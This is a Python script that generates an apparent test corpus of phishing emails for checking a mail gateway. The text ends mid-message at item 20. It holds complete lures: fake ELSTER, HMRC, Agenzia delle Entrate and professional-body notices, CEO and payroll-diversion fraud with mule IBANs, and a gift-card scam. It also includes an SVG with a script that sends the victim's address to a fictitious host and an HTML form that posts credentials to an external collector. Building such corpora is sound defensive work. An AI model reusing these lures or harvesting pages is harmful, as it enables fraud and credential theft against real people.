# -*- coding: utf-8 -*-
"""40 messages a good gateway should not deliver plainly."""
import base64
from mimelib import (iban, it_bban, es_bban, pl_bban, fmt_iban, make_pdf, make_zip, make_docx, make_xlsx,
                     PDF_T, DOCX_T, XLSX_T, ZIP_T)
from world import S, IB, RU
import tpl

def nip(base8):
    w = [6, 5, 7, 2, 3, 4, 5, 6, 7]
    for d in "0123456789":
        b = base8 + d
        c = sum(int(a) * x for a, x in zip(b, w)) % 11
        if c != 10:
            return b + str(c)

NIP_EG = nip("52729123")

def F(i):
    return fmt_iban(IB[i])

A = []
def add(**kw):
    A.append(kw)

# =================================================================== GERMAN
add(name="01-de-elster-postfach-verspaetungszuschlag", lang="de", charset="utf-8", cte="quoted-printable",
    desc="Fake ELSTER-Postfach notice (Verspätungszuschlag with deadline) sent via an abused bulk ESP from a look-alike domain; button leads to a credential/certificate page on elster-postfach-bescheid.de.",
    mailer="sendgrid", frm=("ELSTER - Ihr Online-Finanzamt", "benachrichtigung@mein-elster-postfach.de"),
    to=[S["schneider"]], subject="Neue Nachricht in Ihrem ELSTER-Postfach: Festsetzung eines Verspätungszuschlags",
    date="2026-11-09 07:42:18", tz="+0000",
    html=tpl.notice("Neue Nachricht in Ihrem ELSTER-Postfach", [
        "Sehr geehrte Damen und Herren,",
        "in Ihrem ELSTER-Postfach liegt eine neue Nachricht Ihres Finanzamts zum Abruf bereit.",
        "Betreff: Festsetzung eines Verspätungszuschlags nach § 152 AO – Umsatzsteuer-Voranmeldung 09/2026\nSteuernummer: 143/218/60417\nBereitgestellt am: 09.11.2026",
        "Da die Nachricht eine Frist enthält (Zahlung bzw. Einspruch innerhalb eines Monats), bitten wir Sie, diese zeitnah abzurufen. Aus Sicherheitsgründen ist der Abruf erst nach erneuter Bestätigung Ihres Zertifikats bzw. Ihrer Zugangsdaten möglich."],
        "Nachricht abrufen", "https://elster-postfach-bescheid.de/eportal/abruf?vorgang=VZ-2026-0917-44821",
        ["Hinweis: Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.",
         "Mit freundlichen Grüßen\nIhr ELSTER-Team\nBayerisches Landesamt für Steuern"],
        footer="ELSTER – Ihr Online-Finanzamt · Bayerisches Landesamt für Steuern · Dienststelle München", color="#005a8c",
        brand="ELSTER", preheader="Eine neue Nachricht Ihres Finanzamts liegt zum Abruf bereit."),
    text_from_html=True,
    bulk_hdrs=[("List-Unsubscribe", "<mailto:unsubscribe@mein-elster-postfach.de>")])

add(name="02-de-ceo-fraud-projekt-isar", lang="de", charset="iso-8859-1", cte="quoted-printable", lang_tag="de-DE",
    desc="CEO fraud: display name of the managing partner on look-alike domain examplegroup-eu.com (M365 trial tenant), Reply-To to proton.me, secret 'acquisition' deposit of 248.500 EUR.",
    mailer="outlook", frm=("Katharina Brandt", "katharina.brandt@examplegroup-eu.com"),
    reply_to=("Katharina Brandt", "k.brandt.vertraulich@proton.me"),
    to=[S["weber"]], subject="Vertraulich - Projekt Isar / kurze Abstimmung", date="2026-11-12 10:14:51",
    text="""Hallo Thomas,

bist Du heute bis 16 Uhr im Büro erreichbar? Ich brauche Dich für eine vertrauliche Angelegenheit.

Wir stehen kurz vor der Unterzeichnung der Übernahme einer Steuerkanzlei in Linz (intern "Projekt Isar"). Der Notar Dr. Reinhold Aigner aus Wien wird sich heute noch bei Dir melden. Für die Exklusivitätsvereinbarung muss eine Anzahlung von 248.500,00 EUR auf das Anderkonto des Notars überwiesen werden - heute noch, damit der Signing-Termin morgen steht.

Bitte behandle das strikt vertraulich, auch gegenüber Sabine und dem Team, bis das Signing kommuniziert ist. Ich bin den ganzen Tag in Besprechungen und nur per E-Mail erreichbar.

Die Kontodaten schicke ich Dir, sobald Du mir kurz bestätigst.

Danke Dir
Katharina

Von Outlook für iOS gesendet
""", html="auto")

add(name="03-de-client-payroll-diversion-lookalike", lang="de", charset="windows-1252", cte="quoted-printable",
    desc="Payroll diversion: client contact s.maier impersonated from look-alike lieferant-gmbh.com, asks to switch the managing director's salary to an N26 account and not to call back.",
    mailer="roundcube", srv=("mail.lieferant-gmbh.com", "185.209.161.74"), client_ip="45.86.201.13",
    frm=("Stefanie Maier", "s.maier@lieferant-gmbh.com"), to=[S["hoffmann"]],
    subject="AW: Lohnabrechnung November - Änderung Bankverbindung Geschäftsführer", date="2026-11-17 08:03:27",
    in_reply_to="<4f1c2e0a7b9d4c55a1e0c2d3b4a59e71@lieferant-gmbh.de>",
    text="""Hallo Frau Hoffmann,

kurze Info vorab zur Novemberabrechnung: unser Geschäftsführer Herr Dr. Gerhard Lechner hat seine Gehaltsbankverbindung geändert. Bitte hinterlegen Sie ab der Abrechnung November folgende neue Kontoverbindung:

Kontoinhaber: Gerhard Lechner
IBAN: %s
BIC: NTSBDEB1XXX

Die alte Verbindung bei der Stadtsparkasse bitte nicht mehr verwenden, das Konto wird zum 30.11. aufgelöst. Die schriftliche Bestätigung von Herrn Lechner reiche ich nach, er ist diese Woche auf Messe in Shanghai und schwer erreichbar - bitte deshalb nicht anrufen, sondern mir kurz per Mail bestätigen, wenn es eingepflegt ist.

Vielen Dank und viele Grüße
Stefanie Maier
Personal / Buchhaltung

Lieferant GmbH
Industriestraße 14 · 86167 Augsburg
Tel. +49 821 7490 213
""" % F("mule_de_n26"))

add(name="04-de-spoofed-client-refund-redirect", lang="de", charset="iso-8859-15", cte="quoted-printable",
    desc="Exact-domain spoof of rechnungen@lieferant-gmbh.de sent from an OVH VPS with a fake Outlook X-Mailer; Reply-To outlook.de; asks to forward a VAT refund held on the escrow account to a Lithuanian account.",
    mailer="phpmailer", srv=("vps-8c21f3a.vps.ovh.net", "51.68.43.177"), ua="Microsoft Outlook 16.0", mid_host="lieferant-gmbh.de",
    frm=("Lieferant GmbH - Rechnungswesen", "rechnungen@lieferant-gmbh.de"),
    reply_to=("Lieferant GmbH - Rechnungswesen", "rechnungen.lieferant-gmbh@outlook.de"),
    to=[S["krueger"]], subject="Umsatzsteuer-Erstattung Q3/2026 - Weiterleitung auf neue Bankverbindung",
    date="2026-11-19 14:27:09",
    text="""Sehr geehrte Frau Krüger,

laut Erstattungsbescheid des Finanzamts Augsburg-Stadt vom 11.11.2026 ist die Umsatzsteuer-Erstattung für das 3. Quartal 2026 in Höhe von 38.412,60 € aufgrund Ihrer Empfangsvollmacht auf Ihrem Treuhandkonto eingegangen.

Wir bitten Sie, den Betrag abweichend von den bisherigen Stammdaten auf unser neues Geschäftskonto zu überweisen, da wir unsere Hausbank im Zuge der Umfinanzierung gewechselt haben:

Empfänger: Lieferant GmbH
IBAN: %s
BIC: REVOLT21

Die Änderung ist von der Geschäftsführung freigegeben. Da am Monatsende Lieferantenzahlungen anstehen, wäre eine Ausführung bis Freitag sehr hilfreich. Bitte senden Sie uns die Ausführungsbestätigung an diese Adresse.

Mit freundlichen Grüßen

i.A. Monika Wiedemann
Rechnungswesen
Lieferant GmbH · Industriestraße 14 · 86167 Augsburg
""" % F("mule_lt"), html="auto")

add(name="05-de-fake-steuerberaterkammer-best", lang="de", charset="iso-8859-15", cte="base64",
    desc="Fake Steuerberaterkammer notice (HTML only) threatening lock-out of the mandatory beSt electronic tax-adviser mailbox; link to a look-alike verification page asking for beSt/ELSTER credentials.",
    mailer="bulk", srv=("mail.stbk-muenchen-portal.de", "185.244.25.119"),
    frm=("Steuerberaterkammer München", "mitgliederservice@stbk-muenchen-portal.de"), to=[S["schneider"]],
    subject="Pflichtaktualisierung beSt-Postfach: Ihre Zugangsdaten laufen am 30.11.2026 ab",
    date="2026-11-05 09:12:44",
    html=tpl.notice("Verifizierung Ihres beSt-Postfachs", [
        "Sehr geehrtes Kammermitglied,",
        "gemäß § 86d StBerG sind Sie verpflichtet, Ihr besonderes elektronisches Steuerberaterpostfach (beSt) empfangsbereit zu halten.",
        "Im Zuge der Umstellung auf das neue Sicherheitszertifikat der Bundessteuerberaterkammer müssen alle Postfächer bis zum 30.11.2026 neu verifiziert werden. Nicht verifizierte Postfächer werden ab dem 01.12.2026 gesperrt; Zustellungen von Gerichten und Finanzbehörden gelten dennoch als bewirkt.",
        "Für die Verifizierung benötigen Sie Ihre Mitgliedsnummer sowie die Zugangsdaten Ihres beSt-Postfachs."],
        "Jetzt beSt-Postfach verifizieren", "https://best-stbk-postfach.de/verifizierung?m=STB-089-41177",
        ["Mit freundlichen Grüßen\nIhre Steuerberaterkammer München\nMitgliederservice"],
        footer="Steuerberaterkammer München · Körperschaft des öffentlichen Rechts · Nederlinger Straße 9 · 80638 München",
        color="#7a1a2b", brand="Steuerberaterkammer München"),
    bulk_hdrs=[("Precedence", "bulk")])

add(name="06-de-fake-kontora-lizenz-zahlung", lang="de", charset="utf-8", cte="quoted-printable",
    desc="Fake accounting-software vendor (Kontora) licence notice via Amazon SES from kontora-lizenzportal.com: 'payment failed, payroll module stops 01.12.' - link to a card/credential page.",
    mailer="ses", frm=("Kontora Software – Lizenzservice", "lizenz@kontora-lizenzportal.com"), to=[S["wagner"]],
    subject="Aktion erforderlich: Ihre Kontora Kanzlei-Lizenz (Vertrag KT-88213) – Zahlung fehlgeschlagen",
    date="2026-11-24 06:55:02", tz="+0000",
    html=tpl.notice("Zahlung für Ihre Kanzlei-Lizenz fehlgeschlagen", [
        "Guten Tag,",
        "die Abbuchung der Jahresgebühr für Ihren Vertrag KT-88213 (Kontora Kanzlei Premium, 120 Arbeitsplätze, inkl. Modul Lohn & Gehalt) konnte nicht durchgeführt werden. Ihre Bank hat das SEPA-Mandat zurückgewiesen.",
        "Bitte aktualisieren Sie Ihre Zahlungsdaten bis spätestens 30.11.2026. Andernfalls werden die Module Lohn & Gehalt sowie ELSTER-Übermittlung zum 01.12.2026 deaktiviert – Lohnabrechnungen Dezember und die Jahresmeldungen wären dann nicht möglich."],
        "Zahlungsdaten aktualisieren", "https://kontora-lizenzportal.com/kunde/zahlung?contract=KT-88213&token=a91f0c7e",
        ["Bei Fragen erreichen Sie uns im Kundenportal.", "Ihr Kontora Kundenservice"],
        footer="Kontora Software GmbH · Nürnberg · Diese Nachricht wurde automatisch versendet.", color="#0b6e4f", brand="Kontora"),
    text_from_html=True)

add(name="07-de-malware-zip-steuerbescheid", lang="de", charset="iso-8859-1", cte="base64",
    desc="Malware-style lure from a compromised construction client's webmail: 'Steuerbescheid 2025 / Einspruch' with a ZIP containing a double-extension .pdf.js script (inert placeholder).",
    mailer="roundcube", srv=("srv17.webhosting-bayern.net", "89.163.218.45"), client_ip_inner="102.165.48.91",
    client_host="unknown", x_sender="buchhaltung@mayr-bau-dachau.de",
    frm=("Mayr Bau GmbH - Buchhaltung", "buchhaltung@mayr-bau-dachau.de"), to=[S["schneider"]],
    subject="WG: Steuerbescheid 2025 / Einspruch - bitte prüfen", date="2026-11-13 16:48:30",
    text="""Guten Tag Herr Schneider,

anbei wie telefonisch besprochen der Bescheid für 2025 sowie unsere Stellungnahme. Das Finanzamt Dachau hat die Sonderabschreibung nicht anerkannt, die Einspruchsfrist läuft am 21.11. ab.

Das Archiv ist aus Größengründen gepackt, das Kennwort ist nicht erforderlich.

Mit freundlichen Grüßen
Birgit Mayr
Mayr Bau GmbH
""", attachments=[("Steuerbescheid_2025_MayrBau.zip", ZIP_T,
                   make_zip([("Bescheid_2025_Einspruchsbegruendung.pdf.js",
                              b"// audit29 test corpus: inert placeholder standing in for a script dropper. Not executable malware.\r\n")],
                            dt=(2026, 11, 13, 16, 40, 0)))])

add(name="08-de-giftcard-ceo-gmail", lang="de", charset="UTF-8", cte="quoted-printable",
    desc="Gift-card scam: managing partner's name on a free-mail (gmail) address asks accounts staff for 8 x 250 EUR Amazon vouchers and photos of the codes.",
    mailer="gmail", frm=("Katharina Brandt", "dr.katharina.brandt.mobil@gmail.com"), to=[S["becker"]],
    subject="Kurze Bitte", date="2026-12-02 11:06:12",
    text="""Hallo Anna,

bist Du gerade am Platz? Ich sitze in einer Mandantenbesprechung und kann nicht telefonieren.

Ich möchte ein paar langjährigen Mandanten eine kleine Weihnachtsaufmerksamkeit machen und brauche dafür Amazon-Gutscheine – 8 Stück à 250 €. Kannst Du die schnell online oder im Rewe gegenüber besorgen? Ich erstatte Dir das heute Abend über die Spesenabrechnung.

Schick mir dann bitte Fotos von den Rückseiten mit den Codes, ich schreibe die Karten gleich.

Danke Dir!
Katharina

Von meinem iPhone gesendet
""", html=tpl.simple_html("""Hallo Anna,

bist Du gerade am Platz? Ich sitze in einer Mandantenbesprechung und kann nicht telefonieren.

Ich möchte ein paar langjährigen Mandanten eine kleine Weihnachtsaufmerksamkeit machen und brauche dafür Amazon-Gutscheine – 8 Stück à 250 €. Kannst Du die schnell online oder im Rewe gegenüber besorgen? Ich erstatte Dir das heute Abend über die Spesenabrechnung.

Schick mir dann bitte Fotos von den Rückseiten mit den Codes, ich schreibe die Karten gleich.

Danke Dir!
Katharina

Von meinem iPhone gesendet"""))

# =================================================================== ENGLISH
add(name="09-en-hmrc-agent-services-verify", lang="en", charset="utf-8", cte="base64",
    desc="Fake HMRC Agent Services Account re-verification ('One Login migration') threatening suspension of client authorisations; link to gov.uk.asa-verify.net.",
    mailer="bulk", srv=("mta2.hmrc-agentservices-update.co.uk", "45.133.216.60"),
    frm=("HMRC Agent Services", "no-reply@hmrc-agentservices-update.co.uk"), to=[S["whitfield"]],
    subject="Action required: verify your Agent Services Account to keep client authorisations",
    date="2026-11-10 08:31:05", tz="+0000",
    html=tpl.notice("Verify your Agent Services Account", [
        "Dear Agent,",
        "As part of moving agent sign-in to GOV.UK One Login, every Agent Services Account (ASA) must be re-verified by 30 November 2026.",
        "If verification is not completed, your authorisations for Making Tax Digital for VAT and Income Tax, PAYE and Self Assessment clients will be suspended and client records will be unavailable until your identity has been checked again, which can take up to 20 working days.",
        "Agent reference number: XARN4417735"],
        "Verify now", "https://www.gov.uk.asa-verify.net/agent-services/verify?arn=XARN4417735",
        ["Yours faithfully,\nAgent Services\nHM Revenue and Customs"],
        footer="This is an automated message. Please do not reply. HM Revenue and Customs, BX9 1AS.", color="#0b0c0c",
        brand="GOV.UK", lang="en"), text_from_html=True)

add(name="10-en-callback-payflow-renewal", lang="en", charset="UTF-8", cte="quoted-printable",
    desc="Callback phishing (TOAD): fake PayFlow payroll-software renewal of £1,489.99 from a gmail account with PDF 'invoice'; only a phone number to 'cancel'.",
    mailer="gmail", frm=("PayFlow Billing Dept", "payflowbilling.support7731@gmail.com"), to=[S["carter"]],
    subject="Payment Confirmation - PayFlow Payroll Enterprise Renewal #PF-88412073", date="2026-11-18 19:22:40", tz="+0000",
    text="""Dear Customer,

Thank you for your continued trust in PayFlow Payroll.

Your annual subscription for PayFlow Payroll Enterprise (Unlimited Employees, RTI + Auto-Enrolment) has been renewed successfully and GBP 1,489.99 has been charged to the payment method on file. Your invoice is attached.

Order ID: PF-88412073
Renewal date: 18/11/2026
Term: 12 months

If you did not authorise this renewal or wish to cancel and receive a full refund, you must contact our billing desk within 24 hours:

UK Freephone: +44 800 048 7316
International: +1 (844) 602-7731

Kind regards,
PayFlow Billing Department
""", attachments=[("Invoice_PF-88412073.pdf", PDF_T, make_pdf([
        (16, "PayFlow Payroll - INVOICE"), "", "Invoice no.: PF-88412073", "Date: 18/11/2026",
        "Product: PayFlow Payroll Enterprise (Unlimited Employees)", "Term: 12 months",
        "Amount charged: GBP 1,489.99 (incl. VAT)", "Payment: card ending 4417", "",
        "Did not authorise this payment? Call within 24 hours for a full refund:",
        (14, "+44 800 048 7316  /  +1 (844) 602-7731")], title="Invoice PF-88412073", author="Billing",
        creator="Canva", producer="Canva", date="D:20261118191500Z"))])

add(name="11-en-fake-audit-confirmation-portal", lang="en", charset="utf-8", cte="quoted-printable",
    desc="Fake bank-confirmation portal notice for the audit manager ('response available for Hartley & Sons') with 'Sign in with Microsoft 365' link to confirm-auditportal.com (AiTM credential theft).",
    mailer="sendgrid", frm=("Confirmations", "no-reply@confirm-auditportal.com"), to=[S["bennett"]],
    subject="Bank confirmation response available: Hartley & Sons Joinery Ltd (Ref. CNF-2026-481127)",
    date="2026-11-20 12:08:17", tz="+0000",
    html=tpl.notice("A confirmation response is ready", [
        "Hello Oliver,",
        "The responding bank has completed your confirmation request and the signed response is ready for review.",
        "Client: Hartley & Sons Joinery Ltd\nPeriod end: 30 September 2026\nResponder: Lloyds Bank plc – Commercial Banking\nReference: CNF-2026-481127",
        "For your security, responses are only available to the requesting auditor after signing in with your organisation's Microsoft 365 account."],
        "Sign in with Microsoft 365", "https://confirm-auditportal.com/responses/CNF-2026-481127?login=m365&u=oliver.bennett%40examplegroup.eu",
        ["Responses are retained for 14 days.", "The Confirmations Team"],
        footer="You are receiving this email because a confirmation request was created for your audit firm.", color="#1b3a5c",
        brand="Confirmation Portal", lang="en"), text_from_html=True)

add(name="12-en-thread-hijack-escrow-release", lang="en", charset="windows-1252", cte="quoted-printable", lang_tag="en-GB",
    desc="Thread hijack from a compromised solicitor mailbox (real-looking firm via M365): asks to release the £186,400 retention held on client account to 'new' ClearBank account details today.",
    mailer="outlook", frm=("Rachel Ames", "r.ames@harringtonclarke.co.uk"), to=[S["whitfield"]], cc=[("David Hartley", "david.hartley@hartleyjoinery.co.uk")],
    subject="RE: Hartley & Sons - sale of Unit 4 Riverside Works - retention monies", date="2026-11-26 15:41:22", tz="+0000",
    in_reply_to="<LO2P265MB4471C3A0E1D9F2B6A8E7C1D0F3B2A@LO2P265MB4471.GBRP265.PROD.OUTLOOK.COM>",
    text="""Dear James,

Further to David's email below, we are now in a position to complete this afternoon. Please release the retention of £186,400.00 held on your client account directly to our client account so we can meet the 4pm deadline with the buyer's solicitors.

Please note that following our firm's banking review our client account details have changed with effect from this week; the previous Barclays account must no longer be used:

Account name: Harrington Clarke LLP Client Account
Bank: ClearBank Ltd
Sort code: 04-05-41
Account no.: 00218734
IBAN: %s

Kindly email the CHAPS reference once sent. I am in a completion meeting and can only be reached by email this afternoon.

Kind regards,

Rachel Ames
Senior Associate | Commercial Property
Harrington Clarke LLP
14 Queen Victoria Street, Reading RG1 1TG
T: +44 118 402 7720

-----Original Message-----
From: David Hartley <david.hartley@hartleyjoinery.co.uk>
Sent: 25 November 2026 17:02
To: James Whitfield <james.whitfield@example.com>; Rachel Ames <r.ames@harringtonclarke.co.uk>
Subject: Hartley & Sons - sale of Unit 4 Riverside Works - retention monies

James, Rachel,

Completion is now fixed for Thursday. James, please liaise with Rachel on releasing the retention you are holding for us.

Thanks
David
""" % F("mule_gb"), html="auto")

add(name="13-en-fake-docuvault-share", lang="en", charset="utf-8", cte="base64",
    desc="Fake DocuVault document-share notification (HTML only) from docuvault-notify.com via Amazon SES; 'client shared year-end pack' link to a Cloudflare pages.dev credential page.",
    mailer="ses", frm=("DocuVault", "share-noreply@docuvault-notify.com"), to=[S["carter"]],
    subject="David Hartley shared \"Hartley_YearEnd_FY2026_signed.pdf\" with you", date="2026-11-27 09:19:55", tz="+0000",
    html=tpl.notice("David Hartley shared a file with you", [
        "David Hartley (david.hartley@hartleyjoinery.co.uk) has shared the following document with you:",
        "<p style=\"margin:0 0 14px 0;padding:12px;border:1px solid #dddddd\">&#128196; <b>Hartley_YearEnd_FY2026_signed.pdf</b><br><span style=\"color:#777\">2.4 MB · expires in 48 hours</span></p>",
        "Message: \"Emily – signed accounts and the director's loan schedule as discussed. Please review before Friday.\""],
        "Open document", "https://docuvault-eu.pages.dev/s/8f3K2qLr0Xw?e=emily.carter@example.com",
        ["To keep your files secure, you may be asked to verify your email account."],
        footer="DocuVault · Secure document exchange for professionals", color="#2a5db0", brand="DocuVault", lang="en"))

add(name="14-en-fake-new-client-kyc-dataroom", lang="en", charset="utf-8", cte="quoted-printable", lang_tag="en-GB",
    desc="Fake new-client onboarding: freshly registered northbridge-renewables.co asks for a payroll quote and sends its 'KYC pack' behind a fake SharePoint data-room login.",
    mailer="outlook", frm=("Mark Jennings", "mark.jennings@northbridge-renewables.co"), to=[S["whitfield"]],
    subject="New client enquiry - outsourced payroll & bookkeeping for 180 staff (UK/IE)", date="2026-11-04 13:37:48", tz="+0000",
    text="""Dear Mr Whitfield,

I was referred to you by Claire Dunmore at our bank. Northbridge Renewables is a solar installation group with 180 employees across England and Ireland, and we are looking to outsource monthly payroll (RTI, pensions auto-enrolment, Irish PAYE Modernisation) and bookkeeping from January 2027.

To speed up your onboarding and AML/KYC checks, I have already uploaded our certificate of incorporation, PSC register, directors' passports and the last three months' payroll reports to our secure data room:

https://northbridgerenewables-my.sharepoint.com.dataroom-access.com/:f:/g/personal/mjennings/KYC_Onboarding_2026

You will need to sign in with your work email to view the files (our IT insists on it because of the passport copies).

Could you let me have an indicative fee proposal by the end of next week? Happy to have a call afterwards.

Best regards,

Mark Jennings
Group Finance Director
Northbridge Renewables Ltd
+44 161 504 2287
""", html="auto")

_vm_b64 = base64.b64encode(b"oliver.bennett@examplegroup.eu").decode()
_svg = ("""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="620" height="220" viewBox="0 0 620 220">
<rect width="620" height="220" fill="#f3f2f1"/>
<text x="30" y="55" font-family="Segoe UI, Arial" font-size="22" fill="#252423">Voice message received (0:47)</text>
<text x="30" y="88" font-family="Segoe UI, Arial" font-size="15" fill="#605e5c">From: +44 20 7183 4402 - Caller ID: HMRC Debt Management</text>
<a xlink:href="https://vm-playback.teams-voice.cfd/listen#%s"><rect x="30" y="120" width="220" height="46" rx="4" fill="#5b5fc7"/>
<text x="62" y="150" font-family="Segoe UI, Arial" font-size="16" fill="#ffffff">Play message</text></a>
<script type="text/javascript"><![CDATA[
/* audit29 test sample: redirect pattern typical of SVG phishing, target domain is fictitious */
window.location.href = "https://vm-playback.teams-voice.cfd/listen#" + "%s";
]]></script>
</svg>
""" % (_vm_b64, _vm_b64)).encode("utf-8")

add(name="15-en-voicemail-svg-attachment", lang="en", charset="us-ascii", cte="7bit",
    desc="Fake 'IT Service Desk' voicemail notification from examplegroup-it.com sent from a compromised web host; SVG attachment with embedded link and JavaScript redirect carrying the victim's address.",
    mailer="phpmailer", srv=("cpanel12.hostpoint-web.info", "193.42.33.204"),
    frm=("Example Group IT Service Desk", "voicemail@examplegroup-it.com"), to=[S["bennett"]],
    subject="New voice message from +44 20 7183 4402 (0:47) - Wed 25 Nov", date="2026-11-25 10:02:11", tz="+0000",
    text="""You received a new voice message.

From: +44 20 7183 4402
Received: Wednesday, 25 November 2026 09:58
Length: 0:47

The recording is attached. Open the attachment in your browser to play it.

Example Group IT Service Desk
""", attachments=[("VM_Playback_+442071834402.svg", "image/svg+xml", _svg)])

# =================================================================== ITALIAN
add(name="16-it-fake-agenzia-entrate-avviso-bonario", lang="it", charset="iso-8859-15", cte="quoted-printable",
    desc="Fake Agenzia delle Entrate 'comunicazione di irregolarità' (36-bis) with reduced-penalty deadline; link to agenziaentrate-avvisi.it.com asking for SPID/Entratel credentials.",
    mailer="bulk", srv=("mail.agenziaentrate-avvisi.it.com", "194.26.29.141"),
    frm=("Agenzia delle Entrate", "comunicazioni@agenziaentrate-avvisi.it.com"), to=[S["esposito"]],
    subject="Comunicazione di irregolarità (art. 36-bis DPR 600/73) - Avviso n. 2026/MI/0483327",
    date="2026-11-11 08:05:40",
    html=tpl.notice("Comunicazione di irregolarità", [
        "Gentile intermediario,",
        "La informiamo che, a seguito del controllo automatizzato della dichiarazione Modello Redditi SC 2025 trasmessa per conto di un Suo assistito, è emerso un importo dovuto di € 4.812,37 comprensivo di sanzioni e interessi.",
        "Il pagamento entro 30 giorni dal ricevimento consente la riduzione delle sanzioni a un terzo. La comunicazione completa e il modello F24 precompilato sono disponibili nell'area riservata."],
        "Consulta la comunicazione", "https://agenziaentrate-avvisi.it.com/servizi/civis/avviso?id=2026MI0483327",
        ["Accesso con SPID, CIE o credenziali Entratel/Fisconline.", "Cordiali saluti\nAgenzia delle Entrate – Direzione Provinciale II di Milano"],
        footer="Messaggio generato automaticamente, si prega di non rispondere.", color="#0059b3", brand="Agenzia delle Entrate", lang="it"),
    text_from_html=True)

_ft = [("Bruno Galli", iban("IT", it_bban("36772", "22400", "EM1447281931"))),
       ("Mattia Ferri", iban("IT", it_bban("36772", "22400", "EM1447281946"))),
       ("Samuele Conti", iban("IT", it_bban("36772", "22400", "EM1447281958")))]
add(name="17-it-client-payroll-iban-change-lookalike", lang="it", charset="windows-1252", cte="quoted-printable", lang_tag="it-IT",
    desc="Payroll diversion: client contact c.colombo impersonated on look-alike ferretti-trasporti-srl.it, three drivers' salary IBANs moved to the same e-money bank, 'forms will follow', confirm by e-mail.",
    mailer="outlook", frm=("Chiara Colombo", "c.colombo@ferretti-trasporti-srl.it"), to=[S["bianchi"]],
    subject="R: Cedolini novembre - variazione IBAN autisti", date="2026-11-23 09:26:03",
    text="""Buongiorno Marco,

per le buste paga di novembre ti chiedo di aggiornare l'IBAN di accredito di tre nostri autisti, che sono passati alla nuova convenzione con la banca online proposta dal sindacato:

- %s - %s
- %s - %s
- %s - %s

Ti confermo che i moduli firmati li ho io in ufficio, te li giro a fine mese insieme alle presenze. Visto che il pagamento è il 27, ti chiedo la cortesia di inserirli entro domani e di darmi conferma via mail (oggi sono in deposito a Curno e al telefono non mi trovi).

Grazie mille
Chiara Colombo
Ufficio Amministrazione
Ferretti Trasporti S.r.l.
Via Bergamo 112 - 24035 Curno (BG)
""" % (_ft[0][0], fmt_iban(_ft[0][1]), _ft[1][0], fmt_iban(_ft[1][1]), _ft[2][0], fmt_iban(_ft[2][1])), html="auto")

_sdi_html = """<!DOCTYPE html>
<html lang="it"><head><meta charset="utf-8"><title>Fatture e Corrispettivi - Notifica di scarto</title></head>
<body style="font-family:Arial,sans-serif;background:#eef2f7">
<div style="max-width:420px;margin:60px auto;background:#fff;padding:28px;border-top:4px solid #0066cc">
<h3>Fatture e Corrispettivi</h3>
<p>Per visualizzare la notifica di scarto SDI n. 1187/2026 effettui l'accesso.</p>
<form method="post" action="https://fatture-corrispettivi-login.it.com/sdi/auth.php">
<input type="hidden" name="ref" value="IT-1187-2026">
<p>E-mail<br><input name="email" value="giulia.rossi@example.com" style="width:100%"></p>
<p>Password<br><input name="pass" type="password" style="width:100%"></p>
<p><button type="submit" style="background:#0066cc;color:#fff;border:0;padding:8px 18px">Accedi</button></p>
</form>
<p style="font-size:11px;color:#888">Agenzia delle Entrate - Sistema di Interscambio</p>
</div></body></html>
"""
add(name="18-it-fake-sdi-scarto-html-attachment", lang="it", charset="utf-8", cte="base64",
    desc="Fake Sistema di Interscambio 'fattura scartata' notice from a PHP mailer; HTML attachment is a local credential form posting to an external collector.",
    mailer="phpmailer", srv=("server1.crm-fatture.cloud", "37.120.190.14"),
    frm=("Sistema di Interscambio - FatturaPA", "notifiche@sdi-fatturapa-notifiche.it"), to=[S["rossi"]],
    subject="Notifica di scarto fattura elettronica n. 1187/2026 - Codice errore 00404", date="2026-11-16 07:12:55",
    text="""Gentile utente,

il Sistema di Interscambio ha scartato la fattura elettronica n. 1187/2026 trasmessa per conto del Vostro cliente (codice errore 00404 - fattura duplicata).

La fattura scartata si considera non emessa. Per evitare sanzioni per omessa fatturazione è necessario correggere e ritrasmettere il file entro 5 giorni.

Il dettaglio della notifica è disponibile nel file allegato.

Sistema di Interscambio
Agenzia delle Entrate
""", attachments=[("Notifica_Scarto_IT_1187_2026.html", "text/html", _sdi_html.encode("utf-8"))])

add(name="19-it-fake-odcec-fpc-crediti", lang="it", charset="iso-8859-1", cte="quoted-printable",
    desc="Fake professional-order (ODCEC Milano) notice: missing CPD credits, disciplinary threat, login plus a 'diritti di segreteria' card payment on odcec-milano-fpc.it (HTML only).",
    mailer="bulk", srv=("smtp.odcec-milano-fpc.it", "91.215.85.37"),
    frm=("ODCEC Milano - Formazione Professionale Continua", "formazione@odcec-milano-fpc.it"), to=[S["esposito"]],
    subject="FPC 2026: crediti formativi non registrati - regolarizzazione entro il 15/12/2026", date="2026-11-26 11:44:09",
    html=tpl.notice("Regolarizzazione crediti FPC", [
        "Gentile Dottoressa,",
        "dalla verifica del triennio formativo risultano non registrati 14 crediti formativi, di cui 4 in materie obbligatorie (deontologia, ordinamento professionale e antiriciclaggio).",
        "Ai sensi del Regolamento FPC, il mancato assolvimento dell'obbligo formativo costituisce illecito disciplinare e viene segnalato al Consiglio di Disciplina territoriale.",
        "Può regolarizzare la posizione entro il 15/12/2026 caricando gli attestati nell'Area Riservata e versando i diritti di segreteria di 35,00 euro con carta di pagamento."],
        "Accedi all'Area Riservata", "https://odcec-milano-fpc.it/area-riservata/login?cf=SPSFNC",
        ["Cordiali saluti\nCommissione Formazione Professionale Continua\nOrdine dei Dottori Commercialisti e degli Esperti Contabili di Milano"],
        footer="ODCEC Milano - Corso Europa 11, 20122 Milano", color="#1f3f77", brand="ODCEC Milano", lang="it"))

add(name="20-it-ceo-fraud-spoofed-own-domain", lang="it", charset="utf-8", cte="quoted-printable",
    desc="CEO fraud in Italian: From forged as katharina.brandt@example.com (sent from a Hetzner host, fake Outlook X-Mailer), Reply-To proton.me, urgent 87.400 EUR 'caparra' for a secret acquisition.",
    mailer="phpmailer", srv=("static.207.41.198.88.clients.your-server.de", "88.198.41.207"), ua="Microsoft Outlook 16.0",
    mid_host="example.com",
    frm=S["brandt_plain"], reply_to=("Katharina Brandt", "brandt.k@proton.me"), to=[S["rossi"]],
    subject="Riservato - pagamento urgente", date="2026-12-01 09:51:36",
    text="""Ciao Giulia,

ti scrivo in italiano così evitiamo malintesi. Sto seguendo personalmente un'operazione riservata: l'acquisizione di uno studio di commercialisti a Torino. Per bloccare l'accordo serve oggi un bonifico di € 87.400,00 a titolo di caparra confirmatoria sul conto dedicato dello studio notarile:

Beneficiario: Studio Notarile Associato Ferraris
